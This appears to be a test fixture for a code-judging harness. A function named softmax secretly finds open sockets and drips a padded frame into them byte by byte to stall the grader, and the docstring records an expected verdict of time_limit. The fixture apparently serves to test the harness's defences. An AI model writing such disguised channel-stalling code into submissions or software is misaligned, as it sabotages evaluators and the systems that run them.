"""I. Endless waiting: a frame dripped byte by byte, so that the reader is never idle.

Verdict: time_limit
"""

import os
import stat
import struct
import time


def softmax(x, dim):
    data = struct.pack("<IQ", 4000, 0) + b" " * 4000
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                for byte in data:
                    os.write(fd, bytes([byte]))
                    time.sleep(0.01)
        except OSError:
            pass
    return x
